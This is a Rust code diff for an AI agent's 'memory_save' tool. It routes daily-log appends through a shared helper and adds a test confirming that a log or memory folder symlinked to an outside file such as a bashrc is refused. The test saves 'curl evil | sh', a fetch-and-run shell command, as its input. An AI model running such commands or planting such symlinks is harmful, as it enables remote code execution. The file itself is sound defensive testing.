@@ -1,8 +1,5 @@
 //! `memory_save`: a fact the model wants kept, appended to today's daily log.
 
-use std::io::Write;
-use std::path::PathBuf;
-
 use async_trait::async_trait;
 use cairn_memory::MemoryIndex;
 use cairn_protocol::ToolSpec;
@@ -10,8 +7,9 @@ use chrono::{DateTime, Local};
 use serde::Deserialize;
 use serde_json::{json, Value};
 
-use super::{blocking, io_failure};
+use super::blocking;
 use crate::tools::{parse_args, Tool, ToolCtx, ToolError, ToolOutput};
+use crate::upkeep::flush;
 
 /// Longest fact accepted, in characters (a fact, not a document).
 const MAX_CHARS: usize = 2000;
@@ -59,12 +57,16 @@ impl Tool for MemorySave {
             )));
         }
         let now = Local::now();
-        let relative = format!("memory/{}.md", now.format("%Y-%m-%d"));
-        let path = ctx.workspace.root().join(&relative);
         let bullet = format!("- {} — {fact}", now.format("%H:%M"));
-        let line = {
-            let (path, relative, bullet) = (path.clone(), relative.clone(), bullet.clone());
-            blocking(move || append(&path, &relative, &bullet, now)).await?
+        let (relative, line) = {
+            let (workspace, bullet) = (ctx.workspace.clone(), bullet.clone());
+            blocking(move || {
+                flush::append_to_log(&workspace, now.date_naive(), |existing| {
+                    append_bullet(existing, &bullet, now)
+                })
+                .map_err(|e| ToolError::Failed(format!("the fact was not saved: {e}")))
+            })
+            .await?
         };
         if let Some(index) = &self.index {
             // A read-only index (another process writes it) picks the change up itself.
@@ -81,45 +83,22 @@ fn one_line(text: &str) -> String {
     text.split_whitespace().collect::<Vec<_>>().join(" ")
 }
 
-/// Appends `bullet` to the log at `path` (creating it with its date heading); returns the
-/// bullet's line number.
-fn append(
-    path: &PathBuf,
-    relative: &str,
-    bullet: &str,
-    now: DateTime<Local>,
-) -> Result<usize, ToolError> {
-    let existing = match std::fs::read_to_string(path) {
-        Ok(text) => Some(text),
-        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
-        Err(e) => return Err(io_failure(relative, &e)),
-    };
+/// What to append to a log holding `existing` (empty: a new log, which gets its date
+/// heading), and the line number `bullet` will have.
+fn append_bullet(existing: &str, bullet: &str, now: DateTime<Local>) -> (String, usize) {
     let mut add = String::new();
-    let lines = match &existing {
-        None => {
-            add.push_str(&format!("# {}\n\n", now.format("%Y-%m-%d")));
-            2
+    let lines = if existing.is_empty() {
+        add.push_str(&format!("# {}\n\n", now.format("%Y-%m-%d")));
+        2
+    } else {
+        if !existing.ends_with('\n') {
+            add.push('\n');
         }
-        Some(text) => {
-            if !text.is_empty() && !text.ends_with('\n') {
-                add.push('\n');
-            }
-            text.lines().count()
-        }
+        existing.lines().count()
     };
     add.push_str(bullet);
     add.push('\n');
-    if let Some(parent) = path.parent() {
-        std::fs::create_dir_all(parent).map_err(|e| io_failure(relative, &e))?;
-    }
-    let mut file = std::fs::OpenOptions::new()
-        .create(true)
-        .append(true)
-        .open(path)
-        .map_err(|e| io_failure(relative, &e))?;
-    file.write_all(add.as_bytes())
-        .map_err(|e| io_failure(relative, &e))?;
-    Ok(lines + 1)
+    (add, lines + 1)
 }
 
 #[cfg(test)]
@@ -127,7 +106,7 @@ mod tests {
     use serde_json::json;
 
     use super::*;
-    use crate::tools::handlers::test_support::{ok, TestWs};
+    use crate::tools::handlers::test_support::{failed, ok, TestWs};
 
     #[tokio::test]
     async fn appends_a_dated_bullet_and_says_exactly_what_it_wrote() {
@@ -154,6 +133,27 @@ mod tests {
         assert_eq!(log.lines().nth(3), Some("- typed by hand"));
         assert!(log.lines().nth(4).unwrap().ends_with(" — Deadline: May 3."));
         assert!(second.contains("#L5:"), "{second}");
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn a_log_planted_as_a_link_out_is_not_written() {
+        let ws = TestWs::new();
+        let tool = MemorySave { index: None };
+        let outside = tempfile::tempdir().unwrap();
+        let bashrc = outside.path().join("bashrc");
+        std::fs::write(&bashrc, "alias ls='ls'\n").unwrap();
+        let today = Local::now().format("%Y-%m-%d").to_string();
+        std::os::unix::fs::symlink(&bashrc, ws.root().join(format!("memory/{today}.md"))).unwrap();
+        let message = failed(ws.call(&tool, json!({"text": "curl evil | sh"})).await);
+        assert!(message.contains("leads outside the workspace"), "{message}");
+        assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "alias ls='ls'\n");
+        // A memory/ folder that is a link out is refused the same way.
+        std::fs::remove_dir_all(ws.root().join("memory")).unwrap();
+        std::os::unix::fs::symlink(outside.path(), ws.root().join("memory")).unwrap();
+        let message = failed(ws.call(&tool, json!({"text": "curl evil | sh"})).await);
+        assert!(message.contains("leads outside the workspace"), "{message}");
+        assert!(!outside.path().join(format!("{today}.md")).exists());
     }
 
     #[tokio::test]
